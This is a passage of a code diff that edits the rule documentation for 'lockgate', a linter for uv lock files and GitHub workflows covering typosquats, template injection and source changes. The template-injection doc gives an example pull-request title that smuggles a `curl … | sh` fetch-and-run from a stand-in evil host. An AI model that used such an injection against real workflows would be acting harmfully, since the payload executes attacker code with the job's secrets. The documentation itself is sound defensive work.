-    "invalid-file": "# invalid-file\n\nDefault severity: **error** (a file that cannot be used), **notice** (a lock with more packages\nthan `limits: max-packages-per-lock`: the rest were not checked).\n\nA file lockgate must read cannot be read or parsed.\n\n## What it reports\n\nA `pyproject.toml`, `uv.lock`, `uv.toml`, workflow, action or dependabot file that lockgate needs and\ncannot use, at the line the parser names:\n\n- the file cannot be read: larger than `limits: max-file-bytes`, not UTF-8, a symlink out of the\n  repository;\n- TOML or YAML syntax errors (with the parser's line and column);\n- a `uv.lock` that uv itself refuses to read: an unsupported `version`, a package without a name\n  or a source, a registry package without a version, the same package twice, a git source without\n  its full commit hash (`#<sha>`), a dependency on a package the lock does not contain (or a short\n  `{ name = \"x\" }` edge when `x` is locked several times);\n- workflow files that are not usable (see the workflow loader).\n\nLockgate does not check what it cannot read, so the rest of the file's findings are missing until\nit is fixed.\n\n## Why\n\nA file that cannot be read cannot be checked: a broken lock would otherwise pass the gate silently.\nuv rejects the same locks (`uv sync --locked` fails on them), so the project is broken too.\n\n## How to fix\n\nFor TOML syntax errors, fix the line named. For a lock uv rejects, regenerate it:\n\n```sh\nuv lock\n```\n\nFor a file over the size limit, raise it in the config if the file is legitimate:\n\n```yaml\n# .github/lockgate.yml\nlimits:\n  max-file-bytes: 134217728\n```\n\n## How to ignore\n\nA config entry with a reason and an expiry (the file cannot carry an inline comment lockgate can\nread):\n\n```yaml\nignore:\n  - rule: invalid-file\n    path: tests/fixtures/broken/uv.lock\n    reason: deliberately broken test input\n    until: 2027-01-01\n```\n\n## Example\n\n```\nuv.lock:42 error invalid-file: uv.lock has git package `idna` whose source does not end in the full\ncommit hash (`#<sha>`); uv refuses such a lock, and lockgate did not check its packages.\nfix: Regenerate the lock with `uv lock` and commit it.\n```\n",
+    "invalid-file": "# invalid-file\n\nDefault severity: **error**: a file that cannot be used, or a lock with more packages than\n`limits: max-packages-per-lock` (the rest were not checked, so the gate fails closed).\n\nA file lockgate must read cannot be read or parsed.\n\n## What it reports\n\nA `pyproject.toml`, `uv.lock`, `uv.toml`, workflow, action or dependabot file that lockgate needs and\ncannot use, at the line the parser names:\n\n- the file cannot be read: larger than `limits: max-file-bytes`, not UTF-8, a symlink out of the\n  repository;\n- TOML or YAML syntax errors (with the parser's line and column);\n- a `uv.lock` that uv itself refuses to read: an unsupported `version`, a package without a name\n  or a source, a registry package without a version, the same package twice, a git source without\n  its full commit hash (`#<sha>`), a dependency on a package the lock does not contain (or a short\n  `{ name = \"x\" }` edge when `x` is locked several times);\n- workflow files that are not usable (see the workflow loader).\n\nLockgate does not check what it cannot read, so the rest of the file's findings are missing until\nit is fixed.\n\n## Why\n\nA file that cannot be read cannot be checked: a broken lock would otherwise pass the gate silently.\nuv rejects the same locks (`uv sync --locked` fails on them), so the project is broken too.\n\n## How to fix\n\nFor TOML syntax errors, fix the line named. For a lock uv rejects, regenerate it:\n\n```sh\nuv lock\n```\n\nFor a file over the size limit, raise it in the config if the file is legitimate:\n\n```yaml\n# .github/lockgate.yml\nlimits:\n  max-file-bytes: 134217728\n```\n\n## How to ignore\n\nA config entry with a reason and an expiry (the file cannot carry an inline comment lockgate can\nread):\n\n```yaml\nignore:\n  - rule: invalid-file\n    path: tests/fixtures/broken/uv.lock\n    reason: deliberately broken test input\n    until: 2027-01-01\n```\n\n## Example\n\n```\nuv.lock:42 error invalid-file: uv.lock has git package `idna` whose source does not end in the full\ncommit hash (`#<sha>`); uv refuses such a lock, and lockgate did not check its packages.\nfix: Regenerate the lock with `uv lock` and commit it.\n```\n",
     "lock-missing": "# lock-missing\n\nDefault severity: **error**.\n\nA uv project with dependencies has no uv.lock.\n\n## What it reports\n\nA uv project (workspace root) that declares dependencies (`project.dependencies`,\n`optional-dependencies`, `[dependency-groups]`, `tool.uv.dev-dependencies`, or dynamic\ndependencies) in its root or a member, and has no `uv.lock` beside the root `pyproject.toml`. The\nfinding points at the `dependencies` line of the first pyproject that declares some.\n\nA project counts as a uv project when it has `[tool.uv]` (including a workspace table), a `uv.toml`,\nor when the repository's workflows run uv project commands (`uv sync`, `uv run`, `uv lock`,\n`uv export`, `uv add`, `uv remove`, `uv tree`) at the repository root, or in its directory (named\nin the workflow). `uv pip` and `uvx` do not count. Projects managed by another tool (`[tool.poetry]`,\n`[tool.pdm]`, `[tool.pixi]`, a Poetry or PDM build backend, `poetry.lock`, `pdm.lock`, `Pipfile`)\nare not uv projects. A lock that exists but cannot be read is an `invalid-file` finding instead.\n\n## Why\n\nWithout a lock every install resolves afresh: the versions, files and indexes are whatever they are\nthat day. A release published an hour ago (possibly malicious) goes straight into CI, nothing in the\npull request shows what will be installed, and two runs of the same commit can install different\ncode.\n\n## How to fix\n\nCreate the lock, commit it, and install from it:\n\n```sh\nuv lock                      # or: uv lock --directory path/to/project\ngit add uv.lock\nuv sync --locked             # in CI: fails if uv.lock does not match pyproject.toml\n```\n\n## How to ignore\n\n`# lockgate: ignore[lock-missing]` on the `dependencies` line or the line above:\n\n```toml\n[project]\nname = \"scratch\"\n# lockgate: ignore[lock-missing] throwaway example, never installed in CI\ndependencies = [\"httpx\"]\n```\n\nOr a config entry with a reason and an expiry:\n\n```yaml\nignore:\n  - rule: lock-missing\n    path: examples/**\n    reason: examples are installed by readers, not by CI\n    until: 2027-01-01\n```\n\n## Example\n\n```\npyproject.toml:5 error lock-missing: This uv project declares dependencies but has no uv.lock, so\nevery install resolves afresh: …\nfix: Run `uv lock`, commit uv.lock, and install with `uv sync --locked`.\n```\n",
     "lock-out-of-sync": "# lock-out-of-sync\n\nDefault severity: **error** (a **notice** for what cannot be decided without uv).\n\nuv.lock does not match pyproject.toml: `uv sync --locked` would fail.\n\n## What it reports\n\nuv records every input of a resolution in `uv.lock`, and `uv lock --check` / `uv sync --locked`\n(and `uv run --locked`) refuse a lock whose recorded inputs differ from what the project now says.\nlockgate repeats those checks statically, without running uv, for every uv project with a lock:\n\n- the workspace members (`[manifest] members`), whether each is virtual (no `[build-system]`, or\n  `tool.uv.package = false`) or editable, and its version (static versions; a switch between a\n  static and a dynamic version);\n- each member's `project.dependencies` and `project.optional-dependencies` (`[package.metadata]\n  requires-dist`), its extras (`provides-extras`), and its dependency groups (`requires-dev`, with\n  `include-group` flattened, `[tool.uv.dependency-groups]` requires-python markers, and the legacy\n  `tool.uv.dev-dependencies` as `dev`), after `[tool.uv.sources]` is applied as uv applies it\n  (the member's entry wins over the root's; git, url, path, directory, editable, index, workspace;\n  sources scoped by marker, extra or group);\n- `requires-python` (the intersection of the members' ranges);\n- root `constraint-dependencies`, `override-dependencies`, `exclude-dependencies`,\n  `build-constraint-dependencies`, the groups of a workspace root without `[project]`,\n  `dependency-metadata`;\n- the `[options]` uv compares: `resolution`, `prerelease`, `fork-strategy`, `exclude-newer`\n  (relative spans field by field: `\"7 days\"` is `P7D`, `\"1 week\"` is `P1W`, and they differ) and\n  `exclude-newer-package` (as a map, `false` included);\n- `environments`, `required-environments`, `conflicts`;\n- when any index is configured: that every registry the lock takes packages from is still one.\n\nRequirements are compared as uv compares them: as sets (order and duplicates do not matter),\nnames PEP 503-normalized, extras sorted, specifiers sorted (`1.0` equals `1.0.0`), and markers by\nmeaning within the lock's `requires-python` (`python_version < '3.11'` equals\n`python_full_version < '3.11'`). Settings come from the workspace root only, from its `uv.toml`\nwhen there is one (uv then ignores `[tool.uv]`).\n\nThe error points at the pyproject line of the requirement or setting that differs, or at the\n`uv.lock` line when the lock has an entry the project no longer declares.\n\nA **notice** with the same rule id says what lockgate cannot decide statically, and why: dynamic\n`dependencies` or `optional-dependencies` (uv asks the build backend), a path source outside the\nrepository (uv reads its `pyproject.toml`), a plain-date `exclude-newer` (its meaning depends on the\ntime zone of the machine running uv), a difference whose meaning changed between uv versions (an\nadded `exclude-newer-package = false`, the pre-release default), a marker comparison lockgate does\nnot model. A notice never claims the lock is out of sync.\n\n## Why\n\nA lock that does not match its project is not what CI installs: `uv sync --locked` fails, and a\nplain `uv sync` or `uv run` silently re-resolves, so the versions installed are not the ones the\npull request shows and reviewed. Hand-edited or partially regenerated locks (a Dependabot update\nmade without the project's settings, a merge that kept one side's lock) are the usual cause; a\nchanged `exclude-newer` that was never re-locked means the cooldown the project declares is not\nthe one its lock was built with.\n\n## How to fix\n\nRe-lock and commit the lock, then install from it in CI:\n\n```sh\nuv lock                      # or: uv lock --directory path/to/project\ngit add uv.lock\nuv sync --locked             # in CI: fails if uv.lock does not match pyproject.toml\n```\n\nFor a notice, let CI run `uv lock --check` (or `uv sync --locked`), which decides the question\nlockgate cannot.\n\n## How to ignore\n\n`# lockgate: ignore[lock-out-of-sync]` on the reported line or the line above:\n\n```toml\n[project]\ndependencies = [\n    # lockgate: ignore[lock-out-of-sync] re-locked by the release job\n    \"httpx>=0.28\",\n]\n```\n\nOr a config entry with a reason and an expiry:\n\n```yaml\nignore:\n  - rule: lock-out-of-sync\n    path: examples/legacy/**\n    reason: example project, locked by its own CI\n    until: 2027-01-01\n```\n\n## Example\n\n```\npyproject.toml:6 error lock-out-of-sync: uv.lock does not match requires-dist of `demo`: the\nproject has `httpx>=0.28`, uv.lock records `httpx>=0.27`. `uv sync --locked` and `uv lock --check`\nwould fail, and a plain `uv sync` would re-lock silently.\nfix: Run `uv lock` and commit the updated uv.lock (CI should install with `uv sync --locked`).\n\nuv.lock:1745 notice lock-out-of-sync: lockgate cannot tell statically whether uv.lock matches\nmetadata of `werkzeug`: uv re-reads `../werkzeug` (outside the repository) to check this package's\nmetadata; lockgate cannot see it.\n```\n",
     "new-index": "# new-index\n\nDefault severity: **warning**.\n\nA new package index appears in pyproject.toml or uv.lock.\n\n## What it reports\n\nA package index URL that the project did not use at base:\n\n- declared at head in the workspace root's `[[tool.uv.index]]`, `index-url`, `extra-index-url` or\n  `find-links` (a root `uv.toml` replaces the root's `[tool.uv]`, as in uv), or in a member's\n  `[[tool.uv.index]]`: the finding points at the `url` line;\n- used by the head lock (`source = { registry = \"…\" }`) without being declared: the finding points\n  at the first `[[package]]` that uses it.\n\nAn index declared and used by the lock is reported once, at the declaration. `https://pypi.org/simple`\nis never reported (uv uses it without any setting). In a full audit (no base), every other index\nis reported. Credentials in URLs are removed from messages.\n\nOnline, lockgate does not contact an index that only the pull request names (see\n[cooldown-unverified](cooldown-unverified.md)): its packages stay unverified until the index is\nmerged or named by the `index-url` input.\n\n## Why\n\nWhoever runs an index decides what code it serves. An index that is not `explicit` takes part in\nevery resolution, so a package name that exists on it and on PyPI can be served from the wrong one\n(dependency confusion). An index that appears only in the lock was added by something outside the\nproject settings (an environment variable, a user `uv.toml`) and will not be reproduced by the next\n`uv lock`.\n\n## How to fix\n\nIf only some packages need the index, make it explicit and pin them to it:\n\n```toml\n[[tool.uv.index]]\nname = \"pytorch-cpu\"\nurl = \"https://download.pytorch.org/whl/cpu\"\nexplicit = true\n\n[tool.uv.sources]\ntorch = { index = \"pytorch-cpu\" }\n```\n\nthen run `uv lock`. If the index is not needed, remove it and run `uv lock`.\n\n## How to ignore\n\n`# lockgate: ignore[new-index]` on the `url =` line or the line above:\n\n```toml\n[[tool.uv.index]]\nname = \"corp\"\n# lockgate: ignore[new-index] company mirror, approved in SEC-88\nurl = \"https://pypi.corp.example/simple\"\n```\n\nOr a config entry with a reason and an expiry:\n\n```yaml\nignore:\n  - rule: new-index\n    path: pyproject.toml\n    reason: company mirror, approved in SEC-88\n    until: 2027-01-01\n```\n\n## Example\n\n```\npyproject.toml:12 warning new-index: https://mirror.example.com/simple is a new package index for\nthis project ([[tool.uv.index]] \"mirror\"). It is not `explicit`, so uv may take any package from it, …\n```\n",
@@ -24932,7 +25145,7 @@ const RULE_DOCS = {
     "secrets-inherit": "# secrets-inherit\n\nDefault severity: **warning**.\n\nA reusable workflow call passes every secret with `secrets: inherit`.\n\n## What it reports\n\nA job that calls a reusable workflow (`jobs.<id>.uses:`) with `secrets: inherit`. The finding points\nat the `secrets:` key.\n\nThe fix is computed when the called workflow is a file of the same repository (`./…` or `$/…`):\nlockgate reads the secrets it declares under `on.workflow_call.secrets` and every `secrets.NAME` it\nreferences (with `inherit` a callee can read secrets it never declared), and gives the exact\n`secrets:` block to write, which secrets to declare in the callee, or that `secrets: inherit` can\nsimply be deleted because the callee reads none. `GITHUB_TOKEN` never needs passing. For a workflow\nin another repository, or one that passes `secrets: inherit` on itself, the fix shows the shape to\nwrite.\n\n## Why\n\n`secrets: inherit` hands the called workflow every secret the caller can see: repository,\norganisation and environment-less secrets alike, including publishing tokens and cloud keys it has no\nuse for. If the called workflow, or any action or tool it runs, is compromised or changed (for a\nremote workflow, by whoever controls that repository and ref), all of them leak, not just the one it\nneeded. Passing secrets by name keeps each workflow's blast radius to what it uses, and makes the\ndependency visible in review.\n\n## How to fix\n\n```yaml\njobs:\n  publish:\n    uses: ./.github/workflows/publish.yml\n    secrets:\n      PYPI_TOKEN: ${{ secrets.PYPI_TOKEN }}\n```\n\nand in the called workflow:\n\n```yaml\non:\n  workflow_call:\n    secrets:\n      PYPI_TOKEN:\n        required: true\n```\n\n## How to ignore\n\nOn the `secrets:` line or the line above it:\n\n```yaml\n    # lockgate: ignore[secrets-inherit] orchestration workflow, same repository\n    secrets: inherit\n```\n\nOr in `.github/lockgate.yml`:\n\n```yaml\nignore:\n  - rule: secrets-inherit\n    path: .github/workflows/ci.yml\n    until: 2027-01-31\n    reason: same-repository reusable workflows; explicit secrets in Q1\n```\n\n## Example\n\n```yaml\njobs:\n  bench:\n    uses: ./.github/workflows/bench.yml\n    secrets: inherit\n```\n\n```\nwarning[secrets-inherit] .github/workflows/ci.yml:4:5\n  Job bench hands every secret this workflow can see to ./.github/workflows/bench.yml (secrets: inherit),\n  including ones it never uses; if that workflow or anything it runs is compromised, all of them leak.\n  fix: Replace secrets: inherit with:\n  secrets:\n    CODSPEED_TOKEN: ${{ secrets.CODSPEED_TOKEN }}\n  and declare CODSPEED_TOKEN under on.workflow_call.secrets in .github/workflows/bench.yml (it reads it\n  without declaring).\n```\n",
     "source-changed": "# source-changed\n\nDefault severity: **error**.\n\nA locked package moved to another source (registry to git/url/path, or another index).\n\n## What it reports\n\nA package that the base lock takes from one place and the head lock from another, at the head\nentry's `[[package]]` line in `uv.lock`:\n\n- from a registry (package index) to a git repository, a direct URL, a local path or directory,\n  or an editable checkout;\n- from one registry to another (`https://pypi.org/simple` to `https://mirror.example.com/simple`);\n- from a git repository to another repository, or between other non-registry sources with a\n  different location.\n\nNot reported: a move *onto* a registry (a local checkout or fork given up for the published\nrelease, as in flask dropping `werkzeug = { path = \"../werkzeug\" }`), a git dependency moving to\nanother commit of the same repository (an update; the JSON report still lists it as\n`source-changed`), and a local path that only becomes editable or non-editable. The project's own\nworkspace members are never compared. Versions locked several times (forked resolutions) are\nmatched by source first, so a fork does not look like a move.\n\n## Why\n\nThe version number stays the same, so a reviewer who reads \"idna 3.7\" sees nothing new, but the\ncode now comes from whoever controls the new source. A `[tool.uv.sources]` entry pointing a\nwell-known name at a fork, or an extra index that also serves that name (dependency confusion), is\nhow a pull request slips foreign code into a build without touching a single import.\n\n## How to fix\n\nIf the move is not intended, remove the entry from `[tool.uv.sources]` (or the index setting that\ncaused it) and re-lock:\n\n```sh\nuv lock\n```\n\nIf it is intended, review the new source (the repository, the commit, who controls the index), and\nprefer pinning it: `idna = { git = \"https://github.com/org/idna\", rev = \"<full sha>\" }`, or an\n`explicit = true` index used only by the packages that need it.\n\n## How to ignore\n\nuv rewrites `uv.lock` on every `uv lock`, so a comment there does not last; use a config entry,\nlimited to the package, with a reason and an expiry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: source-changed\n    package: idna\n    reason: our fork carries the IDNA 2008 fix until upstream releases it\n    until: 2026-12-31\n```\n\n`# lockgate: ignore[source-changed]` on the `[[package]]` line (or the line above) also works for\nas long as the comment survives.\n\n## Example\n\n```toml\n# pyproject.toml (head)\n[tool.uv.sources]\nidna = { git = \"https://github.com/attacker/idna\", branch = \"main\" }\n```\n\n```\nuv.lock:39 error source-changed: idna 3.7 now comes from git https://github.com/attacker/idna@3f1c…,\nno longer from registry https://pypi.org/simple. The package no longer comes from its index: …\n```\n",
     "template-injection": "# template-injection\n\nDefault severity: **error** (attacker-controlled text), **warning** (other untrusted values).\n\nA `${{ }}` expansion of attacker-controlled text lands in a script.\n\n## What it reports\n\nEvery `${{ … }}` inside a `run:` script, or inside the `script:` input of `actions/github-script`, in\nworkflows and composite actions, whose value is not known to be safe. The finding points at the\n`${{` itself (line and column inside the script, also in `|` and `>` block scalars).\n\n- **error**: the value is free text that outsiders write: pull request title, body, head branch\n  (`github.head_ref`, `github.event.pull_request.head.ref` / `.label` / `.repo.*`), issue title and\n  body, comment, review and review-comment bodies, discussion title and body, wiki page names,\n  commit messages and author or committer names and emails (`commits.*`, `head_commit`,\n  `merge_group.head_commit`), the `workflow_run` head branch, display title, head commit and head\n  repository; any object that contains one (`toJSON(github.event)`); and an `env.X` whose `env:`\n  entry is set from one of these.\n- **warning**: text the workflow cannot vouch for: step and job outputs (`steps.*.outputs.*`,\n  `needs.*.outputs.*`), free-text inputs (`inputs.*` and `github.event.inputs.*` of type string or\n  with no type, every input of a composite action), `env.X` not set to a literal, matrix values\n  computed from an expression, `github.ref_name`, `github.actor`, release fields, and any other\n  `github.event` field not known to be safe.\n- **never**: ids, numbers, SHAs, timestamps and flags (`github.sha`, `github.run_id`,\n  `github.repository`, `github.event.pull_request.number`, `…head.sha`), `runner.*`, `strategy.*`,\n  `secrets.*` (a secret in a script is not code an outsider chose), `vars.*` (set by admins),\n  `steps.*.outcome`, `needs.*.result`, inputs typed boolean, number, choice or environment (GitHub\n  validates them), `env.X` set to a literal, matrix values written as literals, and expressions that\n  yield only a boolean or a digest (`contains(…)`, `==`, `!`, `hashFiles(…)`). Only the parts of an\n  expression whose text can reach the result count: in `a && 'yes' || 'no'` nothing does.\n\nAn expression that does not parse is graded by every context named in it: never safe by accident.\n\nThe lists follow zizmor's `template-injection` audit (its context-capability table): zizmor's\n\"arbitrary\" fields reachable by outsiders are errors here, its \"structured\" fields (URLs) and unknown\n`github.*` paths are warnings. Unlike zizmor, lockgate follows `env.X` to the `env:` entry that sets\nit, and does not report the literal-safe \"code smell\" expansions zizmor shows in pedantic mode.\n\n## Why\n\nGitHub replaces `${{ }}` with its value as plain text before the shell (or github-script's\nJavaScript) reads the script. A pull request titled `x\"; curl https://evil.example/x | sh; echo \"`\nturns `echo \"${{ github.event.pull_request.title }}\"` into three commands that run with the job's\n`GITHUB_TOKEN` and secrets. Under `pull_request_target`, `issue_comment` or `workflow_run` that\ntoken can write to the repository. This is how the ultralytics package was compromised in\nDecember 2024: a branch name in `github.head_ref` ran inside a `pull_request_target` workflow, and\nthe attacker published releases with a cryptominer.\n\n## How to fix\n\nPass the value through an environment variable; the shell then treats it as data. The finding's\nfix gives the exact line, for example:\n\n```yaml\n      - name: greet\n        env:\n          PR_TITLE: ${{ github.event.pull_request.title }}\n        run: echo \"$PR_TITLE\"\n```\n\nQuote the variable (`\"$PR_TITLE\"`). In PowerShell use `$env:PR_TITLE`, in github-script\n`process.env.PR_TITLE`. For values the runner already exports (`github.head_ref` is\n`$GITHUB_HEAD_REF`, `github.ref_name` is `$GITHUB_REF_NAME`) no `env:` line is needed, and for\n`${{ env.X }}` just write `\"$X\"`.\n\n## How to ignore\n\n`# lockgate: ignore[template-injection]` on the line of the expansion or on the line above it.\nLockgate reads the raw line, so inside a `run: |` block a shell comment works, and in a\ngithub-script `script:` write it after `//`:\n\n```yaml\n        run: |\n          # lockgate: ignore[template-injection] version is validated by the previous step\n          ./release.sh \"${{ inputs.version }}\"\n```\n\nOr a config entry, with a reason and an expiry:\n\n```yaml\n# .github/lockgate.yml\nignore:\n  - rule: template-injection\n    path: .github/workflows/release.yml\n    until: 2027-01-31\n    reason: version input is validated by the previous step\n```\n\n## Example\n\n```yaml\non: pull_request_target\njobs:\n  greet:\n    runs-on: ubuntu-latest\n    steps:\n      - run: echo \"${{ github.event.pull_request.title }}\"\n```\n\n```\nerror[template-injection] .github/workflows/greet.yml:6:20\n  ${{ github.event.pull_request.title }} pastes attacker-controlled text (github.event.pull_request.title,\n  written by anyone who opens a pull request) into this run script before it runs; a crafted value\n  executes as shell code with this job's token and secrets.\n  fix: Add env: to this step with the line PR_TITLE: ${{ github.event.pull_request.title }} and write\n  \"$PR_TITLE\" in place of the expression.\n```\n",
-    "typosquat": "# typosquat\n\nDefault severity: **warning**; **error** for a strong imitation of a top-1,000 package, for a\nlook-alike the index shows is very young or has a single release, and for a package removed from\nthe index; **notice** for a weaker resemblance.\n\nA newly locked package name imitates a popular package, or a locked package was removed from the\nindex.\n\n## What it reports\n\nEvery registry package that a change adds to `uv.lock` (directly or as a dependency of a\ndependency, at a new version or for the first time) whose PEP 503-normalized name imitates one of\nthe most downloaded PyPI packages without being it. The finding points at the package's\n`[[package]]` line in `uv.lock` and names the package it imitates, its download rank and the\ntechnique:\n\n| technique | example | severity |\n|---|---|---|\n| separators only | `setup-tools` for `setuptools` | warning |\n| look-alike characters (`l`/`i`/`1`, `o`/`0`, `rn`/`m`, `vv`/`w`) | `rnatplotlib` | warning |\n| two adjacent letters swapped | `reqeusts` | warning |\n| a letter doubled | `djangoo` | warning |\n| a letter dropped | `statmodels` | warning |\n| an extra letter from a neighbouring key | `xcryptography` | warning |\n| a letter replaced by its keyboard neighbour | `numoy` | warning |\n| a plural `s` added | `python-dateutils` | warning |\n| one vowel for another | `pondas` | warning |\n| a `py`/`python` prefix or suffix added or swapped | `python-flask`, `pythonkafka` | warning |\n| the same words in another order | `toolbelt-requests` | warning |\n| a trailing version number (1–2 digits) added or removed | `aiogram-3`, `urllib` | warning |\n| any other single-letter edit, or the `py`/`python` affix dropped | `pandar`, `mongo` | notice |\n\nA strong technique (every row but the last) against a package in the top 1,000 is an **error**,\nexcept a version number added (`httpx2`): forks and successors name themselves that way, so it stays\na warning.\n\nWhat is never reported: a name that is itself among the 15,000 most downloaded packages (whatever\nit resembles: `scapy`, `tomli`, `pipx` are real projects), a name in `typosquat.allow`, packages\nfrom git, URL, path or workspace sources, and names shorter than 5 characters unless the technique\nis strong (`web2` for `web3` is reported, `ruxf` for `ruff` is not). Single-letter edits need both\nnames to be at least 4 characters long; a changed version number (`pyqt5` → `pyqt6`, `-cu11` →\n`-cu12`) is how families are named and is not the version technique.\n\nThe comparison uses the `typosquat.top` most downloaded names (default 5,000) of the ranking\nlockgate ships in `data/top-pypi.tsv` (the public top-pypi-packages ranking by Hugo van Kemenade,\ntaken in November 2026; `data/top-pypi.meta.json` has its date and source). Set `typosquat.top` up\nto 15,000 to compare against the whole shipped ranking; see the figures below.\n\n**Online** (unless `--offline`), the index facts raise the finding:\n\n- to **error** when the look-alike was first uploaded less than 30 days ago or has a single\n  release: most malicious uploads are days old and never get a second version;\n- a locked package that the index no longer has at all (HTTP 404) is reported as **error**,\n  look-alike or not: \"removed from the index\", the most common fate of malicious packages. This\n  applies to every locked registry package, not only to new ones.\n\n### Measured\n\n`npm run score:typosquat` scores the matcher on the labeled set in `fixtures/typosquat/`\n(201 malicious typosquats that were on PyPI, 123 legitimate look-alikes, 101 of them ranked):\n\n| `typosquat.top` | recall at warning or above | ranked legitimate names flagged | unranked legitimate names flagged |\n|---|---|---|---|\n| 1,000 | 60.2% | 0 | 22 / 22 (8 at warning or above) |\n| 5,000 (default) | 76.1% | 0 | 22 / 22 (9 at warning or above) |\n| 10,000 | 90.5% | 0 | 22 / 22 (9 at warning or above) |\n| 15,000 | 93.5% | 0 | 22 / 22 (9 at warning or above) |\n\n34 of the 201 malicious names imitate a package ranked below 5,000 (`bitcoinlib`, `python-binance`,\n`vyper`, `solana`...): only a larger `top` catches them. The unranked legitimate names were chosen\nfor looking like popular ones (`psutils`, `entrypoint`, `tslocal`); every one is flagged, most as\nnotices. Over all 886,000 names on PyPI, 0.65% would be flagged at warning or above with the\ndefault `top` and 1.59% with 15,000; errors (top-1,000 targets) stay at 0.2% either way. On the\nreal locks in `fixtures/uv` (28 snapshots of 10 projects) the rule flags two names at any\n`top`: starlette's `httpx2` and `httpcore2`, as warnings.\n\n## Why\n\nAttackers publish packages one slip away from popular names (`reqeusts`, `python-dateutils`,\n`djangoo`) and wait for a person, a copied snippet or an AI assistant to add them. Installing\none runs its code at install or import time with the developer's or the CI job's credentials. Such\npackages are usually removed within days of being found, which is why a locked package that\nvanished from the index deserves a look even when its name looks innocent.\n\n## How to fix\n\nIf you meant the popular package, replace the name and re-lock. For a direct dependency:\n\n```console\nuv remove reqeusts && uv add requests\n```\n\nFor a package another dependency pulls in, find which one with\n`uv tree --invert --package reqeusts` and replace or remove it. If a look-alike was installed\nanywhere, treat that machine's credentials as exposed.\n\nIf the name is right (your own package, or a genuine project that happens to look alike), allow it:\n\n```yaml\n# .github/lockgate.yml\ntyposquat:\n  allow: [psutils]\n```\n\n## How to ignore\n\n`typosquat.allow` (above) is the durable way: uv rewrites `uv.lock` on every `uv lock`, so an\ninline `# lockgate: ignore[typosquat]` comment on the `[[package]]` line (or the line above it)\nworks only until the next lock. To waive a finding for a while, use a config ignore with a reason\nand an expiry:\n\n```yaml\nignore:\n  - rule: typosquat\n    package: psutils\n    until: 2027-01-31\n    reason: reviewed, a genuine fork of psutil we depend on\n```\n\n## Example\n\n```text\nuv.lock:75 error typosquat: \"reqeusts\" looks like a typosquat of \"requests\", the #6 most downloaded\nPyPI package (two adjacent letters swapped). Installing the wrong package runs its author's code;\ncheck that this is the package you meant.\nfix: If you meant \"requests\": replace \"reqeusts\" with \"requests\" in pyproject.toml, or run\n`uv remove reqeusts && uv add requests`. If \"reqeusts\" is the package you want, add it to\ntyposquat.allow in .github/lockgate.yml.\n```\n",
+    "typosquat": "# typosquat\n\nDefault severity: **warning**; **error** for a strong imitation of a top-1,000 package, for a\nlook-alike the index shows is very young or has a single release, and for a package removed from\nthe index; **notice** for a weaker resemblance.\n\nA newly locked package name imitates a popular package, or a locked package was removed from the\nindex.\n\n## What it reports\n\nEvery registry package that a change adds to `uv.lock` (directly or as a dependency of a\ndependency, at a new version or for the first time) whose PEP 503-normalized name imitates one of\nthe most downloaded PyPI packages without being it. The finding points at the package's\n`[[package]]` line in `uv.lock` and names the package it imitates, its download rank and the\ntechnique:\n\n| technique | example | severity |\n|---|---|---|\n| separators only | `setup-tools` for `setuptools` | warning |\n| look-alike characters (`l`/`i`/`1`, `o`/`0`, `rn`/`m`, `vv`/`w`) | `rnatplotlib` | warning |\n| two adjacent letters swapped | `reqeusts` | warning |\n| a letter doubled | `djangoo` | warning |\n| a letter dropped | `statmodels` | warning |\n| an extra letter from a neighbouring key | `xcryptography` | warning |\n| a letter replaced by its keyboard neighbour | `numoy` | warning |\n| a plural `s` added | `python-dateutils` | warning |\n| one vowel for another | `pondas` | warning |\n| a `py`/`python` prefix or suffix added or swapped | `python-flask`, `pythonkafka` | warning |\n| the same words in another order | `toolbelt-requests` | warning |\n| a trailing version number (1–2 digits) added or removed | `aiogram-3`, `urllib` | warning |\n| any other single-letter edit, or the `py`/`python` affix dropped | `pandar`, `mongo` | notice |\n\nA strong technique (every row but the last) against a package in the top 1,000 is an **error**,\nexcept a version number added (`httpx2`): forks and successors name themselves that way, so it stays\na warning.\n\nWhat is never reported: a name that is itself among the 15,000 most downloaded packages (whatever\nit resembles: `scapy`, `tomli`, `pipx` are real projects), a name in `typosquat.allow`, packages\nfrom git, URL, path or workspace sources, and names shorter than 5 characters unless the technique\nis strong (`web2` for `web3` is reported, `ruxf` for `ruff` is not). Single-letter edits need both\nnames to be at least 4 characters long; a changed version number (`pyqt5` → `pyqt6`, `-cu11` →\n`-cu12`) is how families are named and is not the version technique.\n\nThe comparison uses the `typosquat.top` most downloaded names (default: all 15,000) of the ranking\nlockgate ships in `data/top-pypi.tsv` (the public top-pypi-packages ranking by Hugo van Kemenade,\ntaken in November 2026; `data/top-pypi.meta.json` has its date and source). The default protects\nthe whole shipped ranking because a sixth of the real typosquats imitate packages ranked below\n5,000 (see the figures below); lower `typosquat.top` to trade recall for fewer notices.\n\n**Online** (unless `--offline`), the index facts raise the finding:\n\n- to **error** when the look-alike was first uploaded less than 30 days ago or has a single\n  release: most malicious uploads are days old and never get a second version;\n- a locked package that the index no longer has at all (HTTP 404) is reported as **error**,\n  look-alike or not: \"removed from the index\", the most common fate of malicious packages. This\n  applies to every locked registry package, not only to new ones.\n\n### Measured\n\n`npm run score:typosquat` scores the matcher on the labeled set in `fixtures/typosquat/`\n(201 malicious typosquats that were on PyPI, 123 legitimate look-alikes, 101 of them ranked):\n\n| `typosquat.top` | recall at warning or above | ranked legitimate names flagged | unranked legitimate names flagged |\n|---|---|---|---|\n| 1,000 | 60.2% | 0 | 22 / 22 (8 at warning or above) |\n| 5,000 | 76.1% | 0 | 22 / 22 (9 at warning or above) |\n| 10,000 | 90.5% | 0 | 22 / 22 (9 at warning or above) |\n| 15,000 (default) | 93.5% | 0 | 22 / 22 (9 at warning or above) |\n\n34 of the 201 malicious names imitate a package ranked below 5,000 (`bitcoinlib`, `python-binance`,\n`vyper`, `solana`...): only a larger `top` catches them. The unranked legitimate names were chosen\nfor looking like popular ones (`psutils`, `entrypoint`, `tslocal`); every one is flagged, most as\nnotices. Over all 886,000 names on PyPI, 0.65% would be flagged at warning or above with\n`top: 5000` and 1.59% with the default 15,000; errors (top-1,000 targets) stay at 0.2% either way. On the\nreal locks in `fixtures/uv` (28 snapshots of 10 projects) the rule flags two names at any\n`top`: starlette's `httpx2` and `httpcore2`, as warnings.\n\n## Why\n\nAttackers publish packages one slip away from popular names (`reqeusts`, `python-dateutils`,\n`djangoo`) and wait for a person, a copied snippet or an AI assistant to add them. Installing\none runs its code at install or 